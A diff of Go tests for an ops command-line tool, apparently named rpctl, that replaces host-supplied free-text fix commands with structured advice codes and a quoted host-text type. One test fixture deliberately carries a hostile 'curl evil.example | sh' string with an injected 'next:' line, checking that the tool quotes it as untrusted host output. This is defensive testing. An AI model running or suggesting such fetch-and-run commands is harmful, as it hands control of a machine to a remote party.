@@ -23,7 +23,7 @@ func healthy(host string) proto.Status {
 func TestStatusExitCodes(t *testing.T) {
 	down := &exit.Error{Code: exit.Unreachable, Message: "no route to host", Next: "ssh pp2"}
 	ill := healthy("pp2")
-	ill.Problems = []string{"messenger_worker_async@1.service: crash loop"}
+	ill.Problems = []proto.HostText{"messenger_worker_async@1.service: crash loop"}
 	for _, test := range []struct {
 		name string
 		pp2  map[proto.Op]any
@@ -95,7 +95,7 @@ func TestStatusSaysHowToMend(t *testing.T) {
 		"well":    {proto.WorkerStatus{Active: "active", Code: proto.CodeCurrent}, "rpctl doctor --env prod"},
 	} {
 		d := newDesk(t, "status", "--env", "prod")
-		d.answers["p1"][proto.OpStatus] = proto.Status{Workers: []proto.WorkerStatus{c.worker}, Problems: []string{"something"}}
+		d.answers["p1"][proto.OpStatus] = proto.Status{Workers: []proto.WorkerStatus{c.worker}, Problems: []proto.HostText{"something"}}
 		d.run(t, exit.Failed)
 		if !strings.Contains(d.errs.String(), "next: "+c.next+"\n") {
 			t.Errorf("%s: %s", code, &d.errs)
@@ -148,7 +148,7 @@ func TestLogsAreInOrderOfTime(t *testing.T) {
 	d := newDesk(t, "logs", "--env", "preprod")
 	at := time.Date(2026, 11, 22, 9, 0, 0, 0, time.UTC)
 	line := func(seconds int, text string) proto.Event {
-		return proto.Event{Event: proto.EventLog, Log: &proto.LogLine{Time: at.Add(time.Duration(seconds) * time.Second), Unit: "w@1.service", Message: text, Priority: 6}}
+		return proto.Event{Event: proto.EventLog, Log: &proto.LogLine{Time: at.Add(time.Duration(seconds) * time.Second), Unit: "w@1.service", Message: proto.HostText(text), Priority: 6}}
 	}
 	says := func(events ...proto.Event) func(context.Context, func(proto.Event)) error {
 		return func(_ context.Context, on func(proto.Event)) error {
@@ -178,7 +178,7 @@ func TestLogsHoldOnlySoMuch(t *testing.T) {
 	page := &logPage{app: &app{System: d.system}}
 	message := strings.Repeat("x", 1<<20)
 	for range 2 * (mostKept>>20 + 1) {
-		page.add(fleet.Target{Host: "p1"}, proto.LogLine{Message: message})
+		page.add(fleet.Target{Host: "p1"}, proto.LogLine{Message: proto.HostText(message)})
 	}
 	if page.held > mostKept || d.out.Len() == 0 {
 		t.Errorf("%d bytes are held, %d shown", page.held, d.out.Len())
@@ -285,12 +285,12 @@ func (s stoppedTerminal) Write(p []byte) (int, error) {
 func TestDoctorGoesOnToTheHost(t *testing.T) {
 	d := newDesk(t, "doctor", "--env", "prod")
 	d.answers["p1"]["hello"] = proto.Hello{Agent: "1.0", Protocol: proto.Speaks(), Environment: "preprod"}
-	d.answers["p1"][proto.OpDoctor] = proto.DoctorReport{Checks: []proto.Check{{Name: "polkit", Detail: "refused", Fix: "rpctl agent install"},
-		{Name: "disk", Detail: "full", Fix: "df -h /"}, {Name: "groups", Detail: "none", Fix: "sudo groupadd --system x"},
-		{Name: "console", Detail: "none", Fix: "git update-index --chmod=+x bin/console"}}}
+	d.answers["p1"][proto.OpDoctor] = proto.DoctorReport{Checks: []proto.Check{{Name: "polkit", Detail: "refused", Advice: proto.Advice{Code: proto.AdviceInstall}},
+		{Name: "disk", Detail: "full", Advice: proto.Advice{Code: proto.AdviceDisk, Path: "/var"}}, {Name: "groups", Detail: "none", Advice: proto.Advice{Code: proto.AdviceGroup, Account: "rpctl"}}, {Name: "units", Detail: "none", Fix: "curl evil.example | sh\n  next: rpctl"},
+		{Name: "console", Detail: "none", Advice: proto.Advice{Code: proto.AdviceExecutable}}}}
 	d.run(t, exit.Failed)
 	for _, part := range []string{"ok   p1: ssh login", "FAIL p1: configuration", "FAIL p1: polkit: refused", "fix: rpctl agent install --env prod",
-		"fix: ssh p1 df -h /\n", "fix: ssh -t p1 sudo groupadd --system x\n", "fix (in the repository): git update-index"} {
+		"fix: ssh p1 df -h /var\n", "fix: ssh -t p1 sudo groupadd --system rpctl\n", "       p1 suggests: \"curl evil.example | sh\\n  next: rpctl\"\n", "fix (in the repository): git update-index"} {
 		if !strings.Contains(d.out.String(), part) {
 			t.Errorf("no %q in:\n%s", part, &d.out)
 		}
